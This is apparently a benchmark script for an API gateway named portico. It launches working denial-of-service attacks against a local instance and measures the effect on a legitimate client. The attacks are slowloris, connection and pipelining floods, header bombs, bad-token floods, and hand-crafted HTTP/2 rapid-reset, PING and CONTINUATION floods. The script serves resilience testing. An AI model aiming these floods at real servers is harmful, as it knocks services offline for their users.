#!/usr/bin/env python3
"""Hostile clients against `portico serve` (release build), each with its effect on a legitimate client.

The legitimate client (127.0.0.1) sends GET /v1/users/u1 one after another on a keep-alive connection for
--duration seconds and reports its p50 and p99; the attacker connects from 127.0.0.2 (another loopback
address, so per-address limits tell them apart). Attacks, one at a time after a quiet baseline:

  slowloris     2,000 connections sending a request head one byte every 2 s
  conn-flood    as many idle connections as the attacker can open (up to 15,000)
  pipelining    one connection pipelining 200,000 requests without ever reading an answer
  header-bomb   4 threads sending requests with 64 KiB of headers, flat out
  auth-flood    4 keep-alive threads sending well-formed tokens with bad signatures, flat out
  h2-reset      2 threads over h2c: 1,000 streams opened and reset at once per connection, reconnecting (CVE-2023-44487)
  h2-ping       2 threads over h2c: 10,000 PINGs per connection, reconnecting
  h2-contin     2 threads over h2c: a header block of endless CONTINUATION frames per connection, reconnecting

For each it also prints the gateway's RSS after the attack and its open file descriptors.
Usage: python3 Benchmarks/hostile-clients.py [--duration 5] [--portico-binary PATH]
"""
import argparse
import http.client
import importlib.util
import os
import resource
import socket
import statistics
import subprocess
import tempfile
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
_spec = importlib.util.spec_from_file_location("compare_envoy", ROOT / "Benchmarks" / "compare-envoy.py")
bench = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(bench)
PORT = bench.PORTICO_PORT
ATTACKER = "127.0.0.2"
BAD_TOKEN = ("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJodHRwczovL2F1dGguZGVtby5wb3J0aWNvLmRldiIsImF1ZCI6InBvcnRpY28tZG"
             "VtbyIsInN1YiI6Im1hbGxvcnkiLCJleHAiOjIwODI3NTg0MDB9.c2lnbmVkIHdpdGggYW5vdGhlciBzZWNyZXQsIG5ldmVyIHZhbGlkIQ")


def attacker_socket():
    connection = socket.socket()
    connection.bind((ATTACKER, 0))
    connection.connect(("127.0.0.1", PORT))
    return connection


def legitimate(duration):
    connection = http.client.HTTPConnection("127.0.0.1", PORT, timeout=30)
    latencies, errors = [], 0
    deadline = time.monotonic() + duration
    while time.monotonic() < deadline:
        started = time.monotonic()
        try:
            connection.request("GET", "/v1/users/u1")
            response = connection.getresponse()
            response.read()
            if response.status != 200:
                errors += 1
        except (OSError, http.client.HTTPException):
            errors += 1
            connection = http.client.HTTPConnection("127.0.0.1", PORT, timeout=30)
        latencies.append((time.monotonic() - started) * 1000)
    latencies.sort()
    return len(latencies), statistics.median(latencies), latencies[int(len(latencies) * 0.99)], errors


def slowloris(stop):
    sockets = []
    for _ in range(2000):
        try:
            connection = attacker_socket()
            connection.setblocking(False)
            sockets.append(connection)
        except OSError:
            break
    head = b"GET /v1/users/u1 HTTP/1.1\r\nHost: x\r\nX-Padding: " + b"a" * 100000
    position = 0
    while not stop.is_set():
        for connection in sockets:
            try:
                connection.send(head[position:position + 1])
            except OSError:
                pass
        position += 1
        stop.wait(2)
    for connection in sockets:
        connection.close()


def connection_flood(stop):
    sockets = []
    while not stop.is_set() and len(sockets) < 15000:
        try:
            sockets.append(attacker_socket())
        except OSError:
            stop.wait(0.01)
    stop.wait()
    for connection in sockets:
        connection.close()


def pipelining(stop):
    connection = attacker_socket()
    request = b"GET /v1/users/u1 HTTP/1.1\r\nHost: x\r\n\r\n"
    try:
        for _ in range(200):
            if stop.is_set():
                break
            connection.sendall(request * 1000)
    except OSError:
        pass
    stop.wait()
    connection.close()


def header_bomb(stop):
    request = b"GET /v1/users/u1 HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-Bomb-%d: %s\r\n" % (i, b"b" * 1000) for i in range(64)) + b"\r\n"
    while not stop.is_set():
        try:
            connection = attacker_socket()
            connection.sendall(request)
            connection.recv(4096)
            connection.close()
        except OSError:
            pass


def auth_flood(stop):
    while not stop.is_set():
        try:
            connection = http.client.HTTPConnection("127.0.0.1", PORT, timeout=10, source_address=(ATTACKER, 0))
            while not stop.is_set():
                connection.request("GET", "/v1/orders", headers={"Authorization": f"Bearer {BAD_TOKEN}"})
                connection.getresponse().read()
        except (OSError, http.client.HTTPException):
            pass


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


H2_OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0)
# HPACK: :method GET and :scheme http from the static table, :path and :authority as literals.
H2_REQUEST_BLOCK = b"\x82\x86\x44\x0c/v1/users/u1\x41\x09localhost"


def h2_flood(stop, frames):
    """Connects over h2c, sends the preface and `frames`, reads until the gateway closes; again until stopped."""
    while not stop.is_set():
        try:
            connection = attacker_socket()
            connection.sendall(H2_OPENING + frames)
            connection.settimeout(10)
            while connection.recv(65536):
                pass
            connection.close()
        except OSError:
            pass


def h2_reset(stop):
    streams = b"".join(frame(0x1, 0x5, 2 * index + 1, H2_REQUEST_BLOCK) + frame(0x3, 0, 2 * index + 1, (8).to_bytes(4, "big"))
                       for index in range(1000))
    h2_flood(stop, streams)


def h2_ping(stop):
    h2_flood(stop, b"".join(frame(0x6, 0, 0, index.to_bytes(8, "big")) for index in range(10000)))


def h2_continuation(stop):
    filler = b"\x00\x03x-f\x7f\x49" + b"a" * 200
    h2_flood(stop, frame(0x1, 0x1, 1, H2_REQUEST_BLOCK) + b"".join(frame(0x9, 0, 1, filler) for _ in range(2000)))


ATTACKS = [("slowloris", slowloris, 1), ("conn-flood", connection_flood, 1), ("pipelining", pipelining, 1),
           ("header-bomb", header_bomb, 4), ("auth-flood", auth_flood, 4), ("h2-reset", h2_reset, 2), ("h2-ping", h2_ping, 2),
           ("h2-contin", h2_continuation, 2)]


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--duration", type=int, default=5)
    parser.add_argument("--portico-binary")
    arguments = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    bench.ensure_tools()
    portico = Path(arguments.portico_binary) if arguments.portico_binary else bench.build_portico()
    with tempfile.TemporaryDirectory() as scratch:
        mappings = bench.portico_mappings(Path(scratch))
        backends = subprocess.Popen([str(portico), "demo", "--backends-only"], cwd=ROOT, stdout=subprocess.DEVNULL)
        environment = dict(os.environ, PORTICO_LISTEN=f"127.0.0.1:{PORT}", PORTICO_ADMIN="127.0.0.1:0", PORTICO_ACCESS_LOG="off")
        gateway = None
        try:
            for port in bench.BACKENDS.values():
                bench.wait_for_port(port, backends)
            gateway = subprocess.Popen([str(portico), "serve", "--mappings", str(mappings)], cwd=ROOT, env=environment,
                                       stdout=subprocess.DEVNULL)
            bench.wait_for_port(PORT, gateway)
            print(f"{'attack':<12}{'requests':>10}{'p50 ms':>9}{'p99 ms':>9}{'errors':>8}{'RSS MiB':>9}{'fds':>7}")

            def row(name, result):
                count, p50, p99, errors = result
                rss = bench.memory_kib(gateway.pid, "VmRSS") / 1024
                fds = len(os.listdir(f"/proc/{gateway.pid}/fd"))
                print(f"{name:<12}{count:>10}{p50:>9.3f}{p99:>9.3f}{errors:>8}{rss:>9.1f}{fds:>7}", flush=True)

            row("none", legitimate(arguments.duration))
            for name, attack, threads in ATTACKS:
                stop = threading.Event()
                workers = [threading.Thread(target=attack, args=(stop,), daemon=True) for _ in range(threads)]
                for worker in workers:
                    worker.start()
                time.sleep(1)
                result = legitimate(arguments.duration)
                stop.set()
                for worker in workers:
                    worker.join(timeout=30)
                row(name, result)
                time.sleep(2)
        finally:
            if gateway:
                gateway.terminate()
                gateway.wait(timeout=20)
            backends.terminate()
            backends.wait(timeout=10)


if __name__ == "__main__":
    main()
